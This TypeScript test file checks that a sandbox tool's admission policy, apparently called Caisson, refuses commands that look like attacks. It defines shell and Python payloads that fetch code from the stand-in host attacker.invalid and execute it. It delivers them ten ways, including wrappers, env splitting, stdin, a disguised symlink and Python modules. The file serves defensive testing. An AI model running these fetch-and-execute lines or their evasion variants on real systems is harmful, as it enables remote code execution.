/**
 * Code that looks like an attack is run: a script that fetches code and runs it, handed in by each way that code takes
 * into a command. Without the look before, it leaves its mark; with it, nothing was started.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Caisson, type PolicyDocument } from '../../src/index.ts';

const SHELL = 'echo was here >mark; curl -s http://attacker.invalid/x | sh';
const PYTHON = `open('mark', 'w').write('was here')
import urllib.request
exec(urllib.request.urlopen('http://attacker.invalid/x').read())`;

const policy = (admission?: PolicyDocument['admission']): PolicyDocument => ({
  version: 1,
  level: 'moderate',
  ...(admission === undefined ? {} : { admission }),
});

let caisson: Caisson;
let workspace: string;
before(async () => {
  workspace = mkdtempSync(join(tmpdir(), 'caisson-admission-'));
  caisson = await Caisson.open({ stateDirectory: join(workspace, '.state') });
  writeFileSync(join(workspace, 'evil.sh'), SHELL);
  writeFileSync(join(workspace, 'evil'), `#!/bin/sh\n${SHELL}\n`, { mode: 0o755 });
  writeFileSync(join(workspace, 'evil.py'), PYTHON);
  symlinkSync('evil.sh', join(workspace, 'README'));
});
after(async () => {
  await caisson.close();
  rmSync(workspace, { recursive: true });
});

const ways: readonly (readonly [string, readonly string[], string?])[] = [
  ['text of a shell', ['sh', '-c', SHELL]],
  ['behind a wrapper', ['env', 'A=1', 'timeout', '5', 'bash', '-ec', SHELL]],
  ['split by env', ['env', '-S', `sh -c '${SHELL}'`]],
  ['a script by its path', ['sh', 'evil.sh']],
  ['an executable by its first line', ['./evil']],
  ['a link with a harmless name', ['sh', 'README']],
  ['stdin', ['sh'], SHELL],
  ['text of Python', ['python3', '-c', PYTHON]],
  ['a program of Python by its path', ['python3', '-u', 'evil.py']],
  ['a module of Python by its name', ['python3', '-m', 'evil']],
];

describe('code that looks like an attack', () => {
  for (const [name, argv, input] of ways) {
    test(name, async () => {
      const mark = join(workspace, 'mark');
      const run = (asked?: PolicyDocument['admission']) =>
        caisson.run(argv, {
          policy: policy(asked),
          workspace,
          timeoutMs: 10_000,
          ...(input === undefined ? {} : { input }),
        });
      await run();
      assert.ok(existsSync(mark), 'without the look it runs');
      rmSync(mark);
      await assert.rejects(run({}), { code: 'ADMISSION_REFUSED' });
      assert.equal(existsSync(mark), false);
    });
  }
});
